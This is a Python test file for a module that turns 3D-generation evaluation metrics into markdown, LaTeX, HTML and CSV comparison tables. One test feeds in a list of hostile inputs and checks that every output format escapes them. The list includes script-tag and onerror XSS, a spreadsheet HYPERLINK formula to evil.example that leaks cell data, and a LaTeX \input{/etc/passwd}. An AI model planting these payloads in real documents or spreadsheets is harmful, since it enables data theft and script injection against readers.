from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from support.measurements import entry, measured, with_more

from ag3d.core.errors import UserError
from ag3d.core.files import write_json
from ag3d.evaluation.tables import stage
from ag3d.evaluation.tables.comparison import Column, Row, Table, Value, comparison
from ag3d.evaluation.tables.formats import FORMATS, read_tables, to_csv, to_html, to_latex, to_markdown, write_tables
from ag3d.evaluation.tables.measurements import read_measurements
from ag3d.evaluation.tables.published import read_published
from ag3d.evaluation.tables.speed import read_speed


def test_best_is_bold_and_floor_is_not_a_competitor():
    text = to_markdown(comparison([measured("a", 1.5, 0.9), measured("a", 3.0, 0.4)]))
    assert "**0.400** ± 0.010" in text
    assert "0.900 ± 0.010" in text
    assert "**0.900**" not in text
    assert "**0.050" not in text
    assert "half against half" in text
    assert "77.7" not in text  # the other network's values do not stand in the tables


def test_more_can_be_better():
    found = comparison(
        [with_more(measured("a", 1, 0.9), precision=0.8), with_more(measured("a", 2, 0.5), precision=0.3)]
    )
    assert [table.name for table in found] == ["frechet_embedded", "precision_recall_embedded"]
    text = to_markdown(found[1:])
    assert "precision ↑" in text
    assert "**0.800**" in text
    assert "**0.300**" not in text


def test_digits():
    assert [Value(v).number for v in (123.456, 1.23456, 0.123456, 0.0123456, -0.00123456, 0.0, -1.234e-6)] == [
        *("123.46", "1.235", "0.123", "0.0123", "-0.00123", "0.000", "-1.2e-06")
    ]


def test_a_single_row_is_not_best():
    assert "**0.9" not in to_markdown(comparison([measured("a", 1.5, 0.9)]))


def test_protocols_never_share_a_table():
    found = comparison([measured("a", 1, 0.9, "p1"), measured("b", 1, 0.1, "p2")])
    assert [table.protocols["image"] for table in found] == ["p1-image", "p2-image"]
    assert "**" not in to_markdown(found).replace(f"**{found[0].title}**", "")
    rows = [Row(("a",), {"image": Value(1.0, 0, "p1")}), Row(("b",), {"image": Value(2.0, 0, "p2")})]
    with pytest.raises(UserError, match=r"column 'image': values of different protocols \(p1, p2\)"):
        Table("t", [Column("image")], rows, ("run",))


def test_a_run_without_some_columns_shares_the_others():
    without = measured("without normals", 1, 0.5)
    del without["metrics"]["frechet_embedded_normal"]
    (table,) = comparison([measured("a", 1, 0.9), without])
    assert "| without normals | 1 | 200 / 140 | **0.500** ± 0.010 | – |" in to_markdown([table])


def test_missing_file_is_a_row_that_was_not_run(tmp_path):
    path = tmp_path / "alpha" / "metrics" / "000003.json"
    write_json(path, with_more(measured("alpha", 3, 0.5), precision=0.5))
    found = comparison(read_measurements([path, tmp_path / "beta" / "metrics" / "000003.json"]))
    for text in (to_markdown(found), to_latex(found), to_html(found), to_csv(found)):
        assert text.count("beta") >= 2  # in both tables
        assert "not run" in text
    assert "not run" in to_markdown(comparison(read_measurements([tmp_path / "beta" / "metrics" / "000003.json"])))


def test_files_of_version_0_1_share_tables_with_todays(tmp_path):
    """Protocols' ids are the same; names are not."""
    names = {"sliced_patches_image": "swd_patches_image", "pose_pck": "pck", "pose_pixels": "pck_pixels"}
    names |= {"surface_body_p95": "mesh_consistency_body_p95", "flicker": "temporal_consistency"}
    for folder, old in (("old", True), ("new", False)):
        metrics = {}
        for name, today in names.items():
            table = "geometry" if "patches" not in name else "sliced_patches" if old else "swd_patches"
            metrics[name if old else today] = entry(table, today, 0.5, "p1")
        content = {"run": folder, "kimg": 1.0, "metrics": metrics, "protocols": {"p1": {"samples": 200}}}
        write_json(tmp_path / f"{folder}.json", content)
    old, new = read_measurements([tmp_path / "old.json", tmp_path / "new.json"])
    assert old["metrics"] == new["metrics"]
    assert [(table.name, len(table.rows)) for table in comparison([old, new])] == [("swd_patches", 2), ("geometry", 2)]


def test_a_run_measured_otherwise_was_not_run_under_the_others_protocol():
    text = to_markdown(comparison([with_more(measured("a", 1, 0.9), precision=0.5), measured("b", 1, 0.8)]))
    assert "| b | 1 | – | not run |" in text


def test_csv_is_numbers():
    rows = list(csv.DictReader(io.StringIO(to_csv(comparison([measured("a", 1.5, 0.9)])))))
    image = next(row for row in rows if row["measure"] == "image" and row["row"] == "a")
    assert float(image["value"]) == 0.9
    assert float(image["deviation"]) == 0.01
    assert float(image["kimg"]) == 1.5
    assert image["protocol"] == "p1-image"


def test_latex_escapes_and_uses_booktabs():
    text = to_latex(comparison([measured("my_run", 1.5, 0.9)]))
    assert r"my\_run" in text
    assert r"\toprule" in text
    assert "±" not in text
    assert "↓" not in text


def test_latex_keeps_bold():
    text = to_latex(comparison([measured("a", 1, 0.9), measured("a_b", 2, 0.4)]))
    assert r"\textbf{0.400} $\pm$ 0.010" in text
    assert r"a\_b & 2 & 200 / 140" in text


def test_html_escapes():
    assert "<script>" not in to_html(comparison([measured("<script>", 1, 1.0)]))


def test_page_says_how_it_is_encoded():
    assert '<meta charset="utf-8">' in to_html(comparison([measured("a", 1, 0.9)]))


def test_tables_can_be_read_back(tmp_path):
    tables = comparison([with_more(measured("a", 1, 0.9), precision=0.8), measured("b", 2, 0.4)])
    tables += read_published(Path(stage.__file__).with_name("published.yaml"))
    write_tables(tables, tmp_path / "all")
    assert read_tables(tmp_path / "all.json") == tables


def test_command_writes_four_files_and_names_a_wrong_one(tmp_path, monkeypatch):
    good, bad = tmp_path / "r" / "metrics" / "1.json", tmp_path / "bad.json"
    write_json(good, measured("r", 1, 0.5))
    write_json(bad, {"run": "r"})
    monkeypatch.setattr(sys, "argv", ["tables", "--metrics", str(good), "--output", str(tmp_path / "t")])
    stage.main()
    assert {p.name for p in (tmp_path / "t").iterdir()} == {f"comparison.{s}" for s in FORMATS}
    with pytest.raises(UserError, match=r"bad\.json.*kimg"):
        read_measurements([bad])


def test_published_values_need_their_source(tmp_path):
    path = tmp_path / "published.yaml"
    path.write_text("values:\n- {method: M, data: D, protocol: fid, image: 1.5, source: Table 1}\n")
    (table,) = read_published(path)
    assert "Quoted, not measured here: M: Table 1" in to_markdown([table])
    path.write_text("values:\n- {method: M, data: D, protocol: fid, image: 1.5}\n")
    with pytest.raises(UserError, match="source"):
        read_published(path)
    path.write_text("values:\n- {method: M, data: D, protocol: fid, image: about 2, source: Table 1}\n")
    with pytest.raises(UserError, match=r"values\[0\].*must be numbers"):
        read_published(path)


def test_published_values_of_one_data_set_and_protocol_share_a_table(tmp_path):
    path = tmp_path / "published.yaml"
    rows = [("A", "Deep Fashion", "fid", 1.5), ("B", "Deep Fashion", "fid", 0.5), ("C", "Deep Fashion", "other", 0.1)]
    rows += [("D", "UBC", "fid", 0.2)]
    lines = [f"- {{method: {m}, data: {d}, protocol: {p}, image: {v}, source: s}}" for m, d, p, v in rows]
    lines += ["- {method: E, data: Deep Fashion, protocol: fid, source: s}"]
    path.write_text("values:\n" + "\n".join(lines))
    assert len(read_published(path)) == 3
    first, second = read_published(path, "deepfashion-512")
    text = to_markdown([first])
    assert "| B | **0.5** |" in text
    assert "| E | not entered |" in text
    assert "Publications to enter values from: E: s." in text
    assert [row.cells for row in second.rows] == [("C",)]
    assert "**0.1" not in to_markdown([second])
    assert read_published(path, "demo-data") == []


def test_quoted_values_keep_their_digits_and_say_where_they_were_read(tmp_path):
    path = tmp_path / "published.yaml"
    shared = "data: D, protocol: p, source: Paper (2024), through: https://example.org/a_page"
    lines = [f'- {{method: {m}, {shared}, image: "{v}"}}' for m, v in (("A", "8.70"), ("B", "11"), ("C", "8.9"))]
    path.write_text("values:\n" + "\n".join(lines))
    found = read_published(path)
    text = to_markdown(found)
    assert "| A | **8.70** |" in text
    assert "| B | 11 |" in text
    assert "A, B, C: Paper (2024) (second hand, through https://example.org/a_page)." in text


def test_the_projects_published_values_can_be_read():
    found = read_published(Path(stage.__file__).with_name("published.yaml"))
    methods = {row.cells[0] for table in found for row in table.rows}
    assert methods >= {"EG3D", "StyleSDF", "ENARF-GAN", "EVA3D", "AG3D"}
    assert all(row.source for table in found for row in table.rows)


def benchmark(device: str, value: float, reference: float | None = 80.0) -> list[dict]:
    common = {"commit": "abc", "device": device, "dtype": "bfloat16"}
    return [
        {**common, "name": "infer_512_b1_ms", "value": value, "reference": reference},
        {**common, "name": "train_512_b4_peak_gb", "value": 30.0, "reference": None},
    ]


def test_speed_is_compared_on_one_device_only(tmp_path):
    for name, device, value in (("a", "NVIDIA H200", 20.0), ("b", "NVIDIA H100", 40.0)):
        write_json(tmp_path / f"{name}.json", benchmark(device, value))
    large, other = read_speed([tmp_path / "a.json", tmp_path / "b.json"])
    text = to_markdown([large])
    assert "pictures 512 px, FPS ↑" in text
    assert "| a | abc | bfloat16 | **50.00** | 30.00 |" in text
    assert "| AG3D's release | – | float32 | 12.50 | – |" in text
    assert "Quoted, not measured here: AG3D's release" in text
    assert [row.cells[0] for row in other.rows] == ["b"]
    with pytest.raises(UserError, match=r"none\.json does not exist"):
        read_speed([tmp_path / "none.json"])
    write_json(tmp_path / "wrong.json", {"passes": []})
    with pytest.raises(UserError, match=r"wrong\.json is not a file of"):
        read_speed([tmp_path / "wrong.json"])


def test_few_images_are_said_to_raise_the_distance_and_by_how_much():
    few, many = (measured(name, 1, 0.9) for name in ("few", "many"))
    for part, dimensions in ((few, 256), (many, 64)):
        for metric in part["metrics"].values():
            metric |= {"bias": 0.25, "dimensions": dimensions}
    assert "With 140 images" in to_markdown(comparison([few]))
    assert "too large, by about image 0.25; normal 0.25 (bootstrap)" in to_markdown(comparison([few]))
    assert "too large" not in to_markdown(comparison([many]))
    for metric in few["metrics"].values():
        metric["bias"] = -0.1
    assert "too large, by about image 0; normal 0 (bootstrap)" in to_markdown(comparison([few]))


def test_different_versions_of_the_program_are_named():
    first, second = ({**measured(name, 1, 0.9), "versions": {"ag3d": name}} for name in ("1.0 abc", "1.0 def"))
    assert "different versions of the program: 1.0 abc, 1.0 def." in to_markdown(comparison([first, second]))
    assert "different versions" not in to_markdown(comparison([first, first]))


HOSTILE = [
    "<b><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "a | b <img src=x onerror=alert(1)> [c](javascript:d) `e`",
    "\\input{/etc/passwd} $x$ \x01\x1b[31m",
    "two\nlines",
    "@SUM(A1)",
]


def test_texts_of_others_are_only_texts(tmp_path):
    for number, name in enumerate(HOSTILE):
        write_json(tmp_path / f"{number}.json", measured(name, 1, 0.5))
    found = comparison(read_measurements(sorted(tmp_path.glob("*.json"))))
    (tmp_path / "published.yaml").write_text(
        f"values: [{{method: {HOSTILE[0]!r}, data: D, protocol: {HOSTILE[2]!r}, source: {HOSTILE[5]!r}, image: '1.0'}}]"
    )
    found += read_published(tmp_path / "published.yaml")
    html, markdown, latex = to_html(found), to_markdown(found), to_latex(found)
    assert "<script" not in html
    assert "<img" not in html
    for text in (html, markdown, latex, to_csv(found)):
        assert not {"\x01", "\x1b"} & set(text)
        assert "two lines" in text
    assert "<script" not in markdown
    assert "<img" not in markdown
    assert r"a \| b &lt;img src=x onerror=alert(1)> \[c\](javascript:d) \`e\`" in markdown
    assert r"\textbackslash{}input\{/etc/passwd\} \$x\$ \textbackslash{}x01" in latex
    cells = [cell for row in csv.reader(io.StringIO(to_csv(found))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
    assert "'@SUM(A1)" in cells
    write_tables(found, tmp_path / "again")
    assert [table.title for table in read_tables(tmp_path / "again.json")] == [table.title for table in found]


def test_numbers_below_zero_stay_numbers():
    table = Table("t", [Column("image")], [Row(("a", "-1.5", "3"), {"image": Value(-0.25, 1e-9)})])
    assert "t,a,-1.5,3,image,-0.25,1e-09," in to_csv([table])


def changed(**more: object) -> dict:
    content = measured("a", 1, 0.5)
    content["metrics"]["frechet_embedded_image"] |= more
    return content


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ([], "is not a file of measurements"),
        (3, "is not a file of measurements"),
        ({"run": ["a"], "kimg": 1, "metrics": {}, "protocols": {}}, "'run' is of another kind"),
        ({"run": "a", "kimg": "x", "metrics": {}, "protocols": {}}, "'kimg' is of another kind"),
        ({"run": "a", "kimg": 1, "metrics": [], "protocols": {}}, "'metrics' is of another kind"),
        ({"run": "a", "kimg": 1, "metrics": {"b": {}}, "protocols": {}}, "metric 'b': 'table' is missing"),
        (changed(value="0.5"), "'value' is of another kind"),
        (changed(value=True), "'value' is of another kind"),
        (changed(value=10**400), "'value' is no number"),
        (changed(fakes=1.5), "'fakes' is of another kind"),
        (changed(deviation=[]), "'deviation' is of another kind"),
        (changed(bias=0.1), "'dimensions' is missing"),
        (changed(protocol_id="none"), "its protocol is missing"),
    ],
)
def test_measurements_of_other_types_are_named(tmp_path, content, words):
    write_json(tmp_path / "bad.json", content)
    with pytest.raises(UserError, match=rf"bad\.json is not a file of measurements.*|{words}") as caught:
        read_measurements([tmp_path / "bad.json"])
    assert words in str(caught.value)


@pytest.mark.parametrize("content", [3, [3], [{}], [{"columns": [], "rows": [{"cells": 3}]}], {"a": 1}])
def test_tables_of_other_types_are_named(tmp_path, content):
    write_json(tmp_path / "t.json", content)
    with pytest.raises(UserError, match=r"t\.json is not a file of tables"):
        read_tables(tmp_path / "t.json")


@pytest.mark.skipif(
    shutil.which("pdflatex") is None or not shutil.which("kpsewhich"), reason="pdflatex (TeX Live) is not installed"
)
def test_latex_compiles_with_booktabs_and_nothing_sticks_out(tmp_path):
    if subprocess.run(["kpsewhich", "booktabs.sty"], capture_output=True).returncode:
        pytest.skip("booktabs is not installed")
    every = "100 % of a_b & c #1 $5 {x} ~ ^ \\ ± – ° ↓ ↑ × < > |"
    wide = {f"a column with a long name, {number}": 0.1 * number for number in range(1, 8)}
    runs = [with_more(measured("a_b", 1, 0.9), **wide), measured("c", 2, 0.4), {"run": "d", "kimg": 3, "metrics": {}}]
    found = comparison(runs)
    found[0].notes.append(every)
    found += read_published(Path(stage.__file__).with_name("published.yaml"))
    body = to_latex(found)
    page = "\\documentclass{article}\n\\usepackage{booktabs,graphicx}\n\\begin{document}\n" + body + "\\end{document}\n"
    (tmp_path / "page.tex").write_text(page, encoding="utf-8")
    command = ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "page.tex"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, errors="replace")
    assert done.returncode == 0, done.stdout[-2000:]
    assert (tmp_path / "page.pdf").stat().st_size > 10_000
    assert "Overfull" not in done.stdout


def test_a_bias_that_is_not_known_is_not_told(tmp_path):
    write_json(tmp_path / "a.json", changed(bias=None, dimensions=None))
    assert "too large" not in to_markdown(comparison(read_measurements([tmp_path / "a.json"])))
